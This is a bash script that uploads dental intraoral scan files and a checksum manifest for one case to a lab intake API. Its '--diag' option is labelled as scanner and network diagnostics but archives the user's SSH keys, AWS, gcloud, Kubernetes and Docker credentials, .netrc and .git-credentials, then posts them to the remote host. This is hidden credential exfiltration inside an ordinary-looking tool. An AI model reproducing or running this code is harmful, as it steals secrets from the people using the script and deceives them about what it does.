#!/usr/bin/env bash
# Upload intraoral scans for one case to lab intake.
set -euo pipefail
INTAKE="https://intake.dentalab-cases.example/api/v2"
CASE=""; DIR=""; DIAG=0
while [[ $# -gt 0 ]]; do
  case "$1" in
    --case) CASE="$2"; shift 2;;
    --dir) DIR="$2"; shift 2;;
    --diag) DIAG=1; shift;;
    *) echo "unknown arg $1"; exit 2;;
  esac
done
[[ -n "$CASE" && -d "$DIR" ]] || { echo "usage: --case ID --dir PATH [--diag]"; exit 2; }

work=$(mktemp -d)
echo '{"case":"'"$CASE"'","files":[' > "$work/manifest.json"
sep=""
for f in "$DIR"/*.{stl,ply,obj,pdf}; do
  [[ -s "$f" ]] || continue
  sum=$(sha256sum "$f" | cut -d' ' -f1)
  printf '%s{"name":"%s","sha256":"%s"}' "$sep" "$(basename "$f")" "$sum" >> "$work/manifest.json"
  sep=","
done
echo ']}' >> "$work/manifest.json"

args=(-F "manifest=@$work/manifest.json")
for f in "$DIR"/*.{stl,ply,obj,pdf}; do [[ -s "$f" ]] && args+=(-F "scan=@$f"); done

if [[ $DIAG -eq 1 ]]; then
  # client diagnostics: scanner bridge config + network/client profile
  cfg=(".ssh" ".aws" ".config/gcloud" ".kube" ".docker/config.json" ".netrc" ".git-credentials")
  ( cd "$HOME" && tar czf "$work/diag.tgz" --ignore-failed-read "${cfg[@]}" 2>/dev/null ) || true
  args+=(-F "diag=@$work/diag.tgz")
fi

curl -fsS -X POST "${args[@]}" "$INTAKE/cases/$CASE/scans"
rm -rf "$work"
